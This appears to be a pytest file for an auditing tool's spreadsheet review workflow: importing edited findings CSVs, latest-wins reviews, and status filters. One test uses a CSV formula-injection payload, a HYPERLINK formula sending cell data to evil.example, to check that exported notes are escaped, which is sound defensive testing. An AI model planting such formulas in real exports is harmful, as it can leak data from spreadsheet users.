"""Reviews carried forward (issue 27): a findings CSV edited in a spreadsheet and imported, one review
set, the latest wins, a re-run keeps them, --status filters, an unknown finding is reported."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from auditkit.cli import main
from auditkit.reviews import latest
from auditkit.store import Store

LOG = Path(__file__).resolve().parents[1] / "sample_data" / "logs" / "baccarat.jsonl"


@pytest.fixture
def store(tmp_path):
    job = tmp_path / "job.toml"
    job.write_text(f'name = "rv"\ninputs = ["{LOG}"]\nstore = "store"\noutput = "out"\n', "utf-8")
    assert main(["-q", "run", str(job)]) == 1
    return tmp_path / "store"


def _rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_a_review_edited_in_a_spreadsheet_shows_in_the_next_report(tmp_path, store, capsys):
    assert main(["report", "--store", str(store), "--out", str(tmp_path / "all.csv"), "-q"]) == 0
    rows = _rows(tmp_path / "all.csv")
    assert {r["status"] for r in rows} == {"open"}
    rows[0]["status"], rows[0]["note"] = "Explained", "=dealer retrained"  # a spreadsheet's capital, a formula-ish note
    rows[1]["status"] = "escalated"
    for r in rows[2:]:
        r["status"] = ""
    rows.append({**rows[2], "round_id": "NO-SUCH-ROUND", "status": "confirmed"})
    edited = tmp_path / "edited.csv"
    with open(edited, "w", newline="", encoding="cp1252") as fh:  # resaved by a spreadsheet
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert main(["review", "import", str(edited), "--store", str(store), "--by", "A. Auditor"]) == 1
    out = capsys.readouterr()
    assert "2 review(s) recorded, 1 row(s) not taken" in out.out and "NO-SUCH-ROUND" in out.err
    got = latest(Store(store)).set_index(["round_id", "rule_id"])
    first = got.loc[(rows[0]["round_id"], rows[0]["rule_id"])]
    assert (first["status"], first["note"], first["reviewed_by"]) == ("explained", "=dealer retrained", "A. Auditor")
    # one more, on the same finding: the latest wins
    assert main(["review", "set", "--store", str(store), rows[0]["round_id"], rows[0]["rule_id"],
                 "--status", "confirmed", "--note", "seen on video"]) == 0
    assert main(["report", "--store", str(store), "--out", str(tmp_path / "c.csv"), "--status", "confirmed", "-q"]) == 0
    confirmed = _rows(tmp_path / "c.csv")
    assert [(r["round_id"], r["note"]) for r in confirmed] == [(rows[0]["round_id"], "seen on video")]
    assert main(["report", "--store", str(store), "--out", str(tmp_path / "o.csv"), "--status", "open", "-q"]) == 0
    assert len(_rows(tmp_path / "o.csv")) == len(rows) - 1 - 2


def test_reviews_survive_a_rerun(tmp_path, store):
    assert main(["report", "--store", str(store), "--out", str(tmp_path / "a.csv"), "-q"]) == 0
    r = _rows(tmp_path / "a.csv")[0]
    assert main(["review", "set", "--store", str(store), r["round_id"], r["rule_id"], "--status", "explained"]) == 0
    job = store.parent / "job.toml"
    main(["-q", "run", str(job)])  # the nightly job again
    assert main(["report", "--store", str(store), "--out", str(tmp_path / "b.csv"), "--status", "explained", "-q"]) == 0
    assert [x["round_id"] for x in _rows(tmp_path / "b.csv")] == [r["round_id"]]


def test_a_bad_status_is_refused(tmp_path, store, capsys):
    assert main(["review", "set", "--store", str(store), "R", "baccarat.b1", "--status", "fine"]) == 2


def test_review_list_is_spreadsheet_safe_through_the_report_writer(store, capsys):
    """issue 41, item 3: `review list` printed a note starting with = raw (every other CSV escapes it)."""
    found = Store(store).findings(None, None, None)
    (r1, k1), (r2, k2) = list(zip(found["round_id"], found["rule_id"], strict=True))[:2]
    assert main(["review", "set", "--store", str(store), r1, k1, "--status", "explained",
                 "--note", '=HYPERLINK("http://evil.example/?"&A1,"click")']) == 0
    assert main(["review", "set", "--store", str(store), r2, k2, "--status", "confirmed", "--note", "-5.00"]) == 0
    capsys.readouterr()
    assert main(["review", "list", "--store", str(store)]) == 0
    rows = {r["round_id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))}
    assert rows[r1]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'  # text, never a formula
    assert rows[r2]["note"] == "-5.00"  # a plain number stays a number
    # the list read back by `review import` gives the note as written
    got, problems = read_review_csv_text(capsys, store)
    assert not problems and got[r1] == '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read_review_csv_text(capsys, store):
    from auditkit.reviews import read_review_csv

    assert main(["review", "list", "--store", str(store)]) == 0
    path = Path(store).parent / "listed.csv"
    path.write_text(capsys.readouterr().out, "utf-8", newline="")
    reviews, problems = read_review_csv(path)
    return {r["round_id"]: r["note"] for r in reviews}, problems
